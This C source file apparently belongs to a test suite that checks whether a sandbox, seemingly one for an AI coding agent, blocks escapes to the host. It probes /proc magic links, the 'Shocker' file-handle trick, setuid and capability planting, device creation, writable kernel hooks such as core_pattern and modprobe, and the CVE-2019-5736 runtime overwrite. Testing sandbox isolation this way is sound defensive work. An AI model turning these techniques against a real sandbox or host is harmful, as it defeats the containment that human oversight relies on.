// Ways to the machine's files: paths, descriptors, handles, links, devices, what the kernel runs for the machine.
#define _GNU_SOURCE
#include "attack.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

// The sentinel's path behind each prefix, as long as none can be read.
static enum attack_outcome read_behind(struct attack *attack, const char *const *prefixes, size_t count) {
    int error = ENOENT;
    for (size_t i = 0; i < count; i++) {
        char path[PATH_MAX];
        snprintf(path, sizeof path, "%s%s", prefixes[i], target("ATTACK_SENTINEL"));
        enum attack_outcome outcome = read_file(attack, path);
        if (outcome == ATTACK_READ) return outcome;
        if (errno != ENOENT) error = errno;
    }
    errno = error;
    return stopped(attack, "open");
}

static enum attack_outcome plain_path(struct attack *attack) {
    static const char *const prefixes[] = {"", "../../../../../../../../../..", "/..", "/tmp/../..", "//"};
    return read_behind(attack, prefixes, sizeof prefixes / sizeof *prefixes);
}

static enum attack_outcome magic_links(struct attack *attack) {
    static const char *const prefixes[] = {
        "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/cwd/../../../../..", "/proc/thread-self/root",
        "/proc/1/task/1/root", "/proc/self/fd/0/..", "/proc/self/fd/1/..", "/dev/fd/2/.."};
    return read_behind(attack, prefixes, sizeof prefixes / sizeof *prefixes);
}

// Every descriptor that came by inheritance is a folder of whoever opened it.
static enum attack_outcome leaked_descriptor(struct attack *attack) {
    int error = EBADF, count = 0;
    for (int number = 3; number < 256; number++) {
        struct stat status;
        if (fstat(number, &status) < 0 || !S_ISDIR(status.st_mode)) continue;
        count++;
        char path[PATH_MAX];
        snprintf(path, sizeof path, "../../../../../../../../../..%s", target("ATTACK_SENTINEL"));
        int file = openat(number, path, O_RDONLY | O_CLOEXEC);
        if (file < 0) {
            error = errno;
            continue;
        }
        char text[256];
        ssize_t length = read(file, text, sizeof text);
        if (length > 0) return found(attack, text, (size_t)length);
    }
    if (count == 0) return stopped_by(attack, "no descriptor of the caller's is open");
    errno = error;
    return stopped(attack, "openat");
}

// "Shocker": a file by its number on the disk, past every path.
static enum attack_outcome file_handle(struct attack *attack) {
    const char *text = target("ATTACK_HANDLE");
    size_t length = strlen(text) / 2;
    if (length < 5) return impossible(attack, "the file system of the sentinel gives no handles");
    struct { struct file_handle handle; unsigned char bytes[MAX_HANDLE_SZ]; } made = {0};
    unsigned char bytes[MAX_HANDLE_SZ + 4];
    for (size_t i = 0; i < length && i < sizeof bytes; i++) {
        unsigned value = 0;
        sscanf(text + 2 * i, "%2x", &value);
        bytes[i] = (unsigned char)value;
    }
    memcpy(&made.handle.handle_type, bytes, 4);
    made.handle.handle_bytes = (unsigned)(length - 4);
    memcpy(made.handle.f_handle, bytes + 4, length - 4);
    // Any file of the same file system will do: a volume is one.
    int mounted = open(target("ATTACK_VOLUME"), O_RDONLY | O_CLOEXEC);
    if (mounted < 0) return stopped(attack, "open");
    int file = open_by_handle_at(mounted, &made.handle, O_RDONLY | O_CLOEXEC);
    if (file < 0) return stopped(attack, "open_by_handle_at");
    char read_bytes[256];
    ssize_t count = read(file, read_bytes, sizeof read_bytes);
    return count < 0 ? stopped(attack, "read") : found(attack, read_bytes, (size_t)count);
}

// A link that somebody put into a volume, and that leads to the machine's file.
static enum attack_outcome volume_link(struct attack *attack) {
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/link", target("ATTACK_VOLUME"));
    return read_file(attack, path);
}

// What may only be read, by a second name where it may be written. The one who planted it looks whether it changed.
static enum attack_outcome hard_link(struct attack *attack) {
    char from[PATH_MAX], to[PATH_MAX];
    snprintf(from, sizeof from, "%s/file", target("ATTACK_READ_ONLY"));
    snprintf(to, sizeof to, "%s/second-%d", target("ATTACK_VOLUME"), getpid());
    if (link(from, to) < 0) return stopped(attack, "link");
    int file = open(to, O_WRONLY | O_APPEND | O_CLOEXEC);
    enum attack_outcome outcome = file < 0 ? stopped(attack, "open") : succeeded(attack, "a second name that can be written");
    unlink(to);
    return outcome;
}

static enum attack_outcome read_only_volume(struct attack *attack) {
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/file", target("ATTACK_READ_ONLY"));
    if (open(path, O_WRONLY | O_APPEND | O_CLOEXEC) < 0) return stopped(attack, "open");
    return succeeded(attack, "a read-only volume is open for writing");
}

// A program with a setuid bit on a volume gives its owner's rights, where no_new_privs does not keep it from it.
static enum attack_outcome setuid_program(struct attack *attack) {
    char path[PATH_MAX];
    struct stat status;
    snprintf(path, sizeof path, "%s/setuid", target("ATTACK_VOLUME"));
    if (stat(path, &status) < 0) return stopped(attack, "stat");
    int program = open(path, O_PATH | O_CLOEXEC);
    if (program < 0) return stopped(attack, "open");
    if (getenv("ATTACK_CONTROL") && (setresgid(65534, 65534, 65534) < 0 || setresuid(65534, 65534, 65534) < 0))
        return stopped(attack, "setresuid");
    if (geteuid() == status.st_uid) return stopped_by(attack, "its owner is the program's own user");
    int ends[2];
    if (pipe(ends) < 0) return impossible(attack, "no pipe");
    pid_t child = fork();
    if (child == 0) {
        dup2(ends[1], 1);
        char *words[] = {"codex32", "attack-program", "try", "effective-user", NULL};
        syscall(SYS_execveat, program, "", words, environ, AT_EMPTY_PATH);
        dprintf(1, "execveat: %s", strerrorname_np(errno));
        _exit(126);
    }
    close(ends[1]);
    char text[256] = "";
    ssize_t length = read(ends[0], text, sizeof text - 1);
    waitpid(child, NULL, 0);
    text[length > 0 ? length : 0] = 0;
    char *tab = strrchr(text, '\t');
    if (!tab) return stopped_by(attack, "%s", text[0] ? text : "it did not run");
    if ((uid_t)strtoul(tab + 1, NULL, 10) == status.st_uid) return succeeded(attack, "it runs as its owner, %u", status.st_uid);
    return stopped_by(attack, "it runs as %lu, not as its owner", strtoul(tab + 1, NULL, 10));
}

// A setuid program made inside, where others find it outside: whoever runs it there is its owner, who is root where
// the volume is root's. By every call that gives a file its mode.
static enum attack_outcome plant_setuid(struct attack *attack) {
    char path[PATH_MAX];
    struct stat status = {0};
    int error = 0;
    snprintf(path, sizeof path, "%s/planted-%d", target("ATTACK_VOLUME"), getpid());
    umask(0);
    static const char *const ways[] = {"fchmodat", "fchmod", "chmod", "fchmodat2", "creat", "open", "openat", "openat2", "mknod", "mkdir", "O_TMPFILE"};
    for (size_t way = 0; way < sizeof ways / sizeof *ways; way++) {
        int file = -1;
        struct { unsigned long long flags, mode, resolve; } how = {O_WRONLY | O_CREAT | O_CLOEXEC, 04755, 0};
        if (way < 4) file = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        errno = 0;
        switch (way) {
        case 0: (void)!syscall(SYS_fchmodat, AT_FDCWD, path, 04755); break;
        case 1: (void)!fchmod(file, 02755); break;
#ifdef SYS_chmod
        case 2: (void)!syscall(SYS_chmod, path, 04755); break;
#endif
        case 3: (void)!syscall(452 /* fchmodat2 */, AT_FDCWD, path, 04755, 0); break;
#ifdef SYS_creat
        case 4: file = (int)syscall(SYS_creat, path, 04755); break;
        case 5: file = (int)syscall(SYS_open, path, O_WRONLY | O_CREAT | O_CLOEXEC, 06755); break;
#endif
        case 6: file = (int)syscall(SYS_openat, AT_FDCWD, path, O_WRONLY | O_CREAT | O_CLOEXEC, 04755); break;
        case 7: file = (int)syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how); break;
        case 8: (void)!mknod(path, S_IFREG | 04755, 0); break;
        case 9: (void)!mkdir(path, 02777); break;
        case 10:
            file = open(target("ATTACK_VOLUME"), O_WRONLY | O_TMPFILE | O_CLOEXEC, 04755);
            if (file >= 0) {
                char own[64];
                snprintf(own, sizeof own, "/proc/self/fd/%d", file);
                (void)!linkat(AT_FDCWD, own, AT_FDCWD, path, AT_SYMLINK_FOLLOW);
            }
            break;
        }
        error = errno;
        status.st_mode = 0;
        int isThere = stat(path, &status) == 0;
        if (file >= 0) close(file);
        if (isThere && S_ISDIR(status.st_mode)) rmdir(path);
        else unlink(path);
        // A folder hands its setgid bit on to what is made in it: no right by itself, and none of ours to count alone.
        if (isThere && (status.st_mode & 06000) && !S_ISDIR(status.st_mode)) return succeeded(attack, "a setuid or setgid file by %s", ways[way]);
    }
    errno = error ? error : EPERM;
    return stopped(attack, "chmod");
}

static enum attack_outcome effective_user(struct attack *attack) {
    return stopped_by(attack, "%u", geteuid());
}

// The device that a volume lies on, as a device file of one's own: the whole disk. And others, where that one is
// closed to everybody, as a cgroup's rules may have it.
static enum attack_outcome make_device(struct attack *attack) {
    struct stat status;
    if (stat(target("ATTACK_VOLUME"), &status) < 0) return stopped(attack, "stat");
    const struct { mode_t kind; dev_t number; } devices[] = {
        {S_IFBLK, status.st_dev}, {S_IFCHR, makedev(1, 11)}, {S_IFCHR, makedev(1, 1)}, {S_IFCHR, makedev(10, 229)}, {S_IFCHR, makedev(10, 200)}};
    const char *const folders[] = {target("ATTACK_VOLUME"), "/tmp", "/dev"};
    int error = 0, made = 0;
    // As a control only where what is made is taken away with the rest.
    int places = getenv("ATTACK_CONTROL") ? 1 : 3;
    for (size_t i = 0; i < sizeof devices / sizeof *devices * (size_t)places; i++) {
        dev_t device = devices[i / (size_t)places].number;
        char path[PATH_MAX];
        if (major(device) == 0) continue;
        snprintf(path, sizeof path, "%s/device-%d", folders[i % (size_t)places], getpid());
        if (mknod(path, devices[i / (size_t)places].kind | 0600, device) < 0) {
            if (!made) error = errno;
            continue;
        }
        made = 1;
        int file = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        error = errno;
        unlink(path);
        if (file >= 0) return succeeded(attack, "device %u:%u is open", major(device), minor(device));
    }
    errno = error;
    if (made && getenv("ATTACK_CONTROL")) return impossible(attack, "this machine's cgroup opens no device to anybody");
    return stopped(attack, made ? "open" : "mknod");
}

static enum attack_outcome machine_devices(struct attack *attack) {
    static const char *const devices[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/nvme0n1",
                                          "/dev/kvm", "/dev/vhost-net", "/dev/loop-control", "/dev/mapper/control", "/dev/uinput",
                                          "/dev/net/tun", "/dev/console", "/dev/tty1", "/dev/hpet", "/dev/vfio/vfio", "/dev/rtc0"};
    int error = ENOENT;
    for (size_t i = 0; i < sizeof devices / sizeof *devices; i++) {
        int file = open(devices[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
        if (file >= 0) return succeeded(attack, "%s is open", devices[i]);
        if (errno != ENOENT) error = errno;
    }
    errno = error;
    return stopped(attack, "open");
}

// Files by which the kernel is told what to run, or to do, for the whole machine. Opened, never written.
static enum attack_outcome open_for_writing(struct attack *attack, const char *const *files, size_t count) {
    int error = ENOENT, is_there = 0;
    for (size_t i = 0; i < count; i++) {
        int file = open(files[i], O_WRONLY | O_CLOEXEC);
        if (file >= 0) return succeeded(attack, "%s can be written", files[i]);
        if (errno != ENOENT) error = errno;
        is_there |= errno != ENOENT;
    }
    if (getenv("ATTACK_CONTROL") && !is_there) return impossible(attack, "this kernel has no such file");
    errno = error;
    return stopped(attack, "open");
}

#define FILES(name, ...) \
    static enum attack_outcome name(struct attack *attack) { \
        static const char *const files[] = {__VA_ARGS__}; \
        return open_for_writing(attack, files, sizeof files / sizeof *files); \
    }
FILES(core_pattern, "/proc/sys/kernel/core_pattern")
FILES(modprobe, "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug")
FILES(binfmt_misc, "/proc/sys/fs/binfmt_misc/register")
FILES(uevent_helper, "/sys/kernel/uevent_helper", "/sys/kernel/profiling", "/sys/kernel/mm/ksm/run")
FILES(sysrq, "/proc/sysrq-trigger")
FILES(kernel_settings, "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/randomize_va_space", "/proc/sys/kernel/panic",
      "/proc/sys/fs/suid_dumpable", "/proc/sys/kernel/dmesg_restrict", "/proc/irq/default_smp_affinity")

// CVE-2019-5736: the file of codex32 by the process that it still is. That it is busy saves it only as long as it
// runs, so a busy file counts as one that can be written, unless it is sealed or shown read-only.
static enum attack_outcome own_program(struct attack *attack) {
    const char *path = getenv("ATTACK_CONTROL") ? "/proc/self/exe" : "/proc/1/exe";
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0 && errno != ETXTBSY) return stopped(attack, "open");
    int reading = open(path, O_RDONLY | O_CLOEXEC);
    struct statvfs place;
    if (reading >= 0 && fstatvfs(reading, &place) == 0 && (place.f_flag & ST_RDONLY))
        return stopped_by(attack, "it is shown on a read-only mount");
    int seals = reading < 0 ? -1 : fcntl(reading, F_GET_SEALS);
    if (seals >= 0 && (seals & F_SEAL_WRITE)) return stopped_by(attack, "it is a sealed copy in memory");
    // What is not there to be written: what the mode says is changed at once, busy or not.
    if (!getenv("ATTACK_CONTROL") && chmod(path, 0777) == 0) return succeeded(attack, "its mode can be changed");
    return succeeded(attack, "it can be written%s", file < 0 ? ", as soon as it does not run" : "");
}

// Root of the sandbox: what it is at strict must not be writable anywhere but in the places made for it.
static enum attack_outcome write_root(struct attack *attack) {
    static const char *const files[] = {"/written", "/bin/written", "/etc/passwd", "/dev/written", "/var/written", "/run/written"};
    int error = 0;
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int file = open(files[i], O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        if (file >= 0) return succeeded(attack, "%s can be written", files[i]);
        error = errno;
    }
    errno = error;
    return stopped(attack, "open");
}

static enum attack_outcome run_from_tmp(struct attack *attack) {
    static const char *const places[] = {"/tmp", "/dev/shm"};
    int error = 0;
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        char path[64], bytes[65536];
        snprintf(path, sizeof path, "%s/program-%d", places[i], getpid());
        int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), to = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
        if (from < 0 || to < 0) return stopped(attack, "open");
        ssize_t length;
        while ((length = read(from, bytes, sizeof bytes)) > 0)
            if (write(to, bytes, (size_t)length) != length) return stopped(attack, "write");
        close(from);
        close(to);
        pid_t child = fork();
        if (child == 0) {
            execl(path, "codex32", "version", (char *)NULL);
            _exit(errno == EACCES ? 77 : 78);
        }
        int status = 0;
        waitpid(child, &status, 0);
        unlink(path);
        if (WIFEXITED(status) && WEXITSTATUS(status) != 77 && WEXITSTATUS(status) != 78) return succeeded(attack, "a program that was written there runs");
        error = EACCES;
    }
    errno = error;
    return stopped(attack, "execve");
}

// A program that brings capabilities of its own, for somebody to find outside (CVE-2021-3493 let everybody make one).
static enum attack_outcome plant_capabilities(struct attack *attack) {
    char path[512];
    snprintf(path, sizeof path, "%s/capable-%d", target("ATTACK_VOLUME"), getpid());
    int file = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
    if (file < 0) return stopped(attack, "open");
    // struct vfs_cap_data, version 2, effective: CAP_SYS_ADMIN.
    const unsigned int bytes[] = {0x02000001, 1U << 21, 0, 0, 0};
    int result = fsetxattr(file, "security.capability", bytes, sizeof bytes, 0), error = errno;
    unlink(path);
    close(file);
    errno = error;
    if (result == 0) return succeeded(attack, "a program of a volume's has CAP_SYS_ADMIN");
    if (is_absent(error) && getenv("ATTACK_CONTROL")) return impossible(attack, "the volume's file system keeps no such attributes");
    return stopped(attack, "fsetxattr");
}

// What overlayfs keeps for itself on files: whoever can write it decides what an overlay shows.
static enum attack_outcome overlay_marks(struct attack *attack) {
    char path[512];
    snprintf(path, sizeof path, "%s/marked-%d", target("ATTACK_VOLUME"), getpid());
    if (mkdir(path, 0700) < 0) return stopped(attack, "mkdir");
    int result = setxattr(path, "trusted.overlay.redirect", "/", 1, 0), error = errno;
    rmdir(path);
    errno = error;
    if (result == 0) return succeeded(attack, "a folder that an overlay takes for another");
    if (is_absent(error) && getenv("ATTACK_CONTROL")) return impossible(attack, "the volume's file system keeps no such attributes");
    return stopped(attack, "setxattr");
}

// Watching all of the machine's opens, and holding them up.
static enum attack_outcome fanotify(struct attack *attack) {
    long number = syscall(SYS_fanotify_init, 4 /* FAN_CLASS_CONTENT */, O_RDONLY);
    if (number < 0 && is_absent(errno) && getenv("ATTACK_CONTROL")) return impossible(attack, "the kernel has no fanotify");
    return number < 0 ? stopped(attack, "fanotify_init") : succeeded(attack, "a listener that others wait for");
}

const struct attack_program attack_files[] = {
    {"plain-path", plain_path}, {"magic-links", magic_links}, {"leaked-descriptor", leaked_descriptor},
    {"file-handle", file_handle}, {"volume-link", volume_link}, {"hard-link", hard_link}, {"read-only-volume", read_only_volume},
    {"setuid-program", setuid_program}, {"plant-setuid", plant_setuid}, {"effective-user", effective_user}, {"make-device", make_device},
    {"machine-devices", machine_devices}, {"core-pattern", core_pattern}, {"modprobe", modprobe}, {"binfmt-misc", binfmt_misc},
    {"uevent-helper", uevent_helper}, {"sysrq", sysrq}, {"kernel-settings", kernel_settings}, {"own-program", own_program},
    {"write-root", write_root}, {"run-from-tmp", run_from_tmp}, {"fanotify", fanotify},
    {"plant-capabilities", plant_capabilities}, {"overlay-marks", overlay_marks}, {NULL, NULL},
};
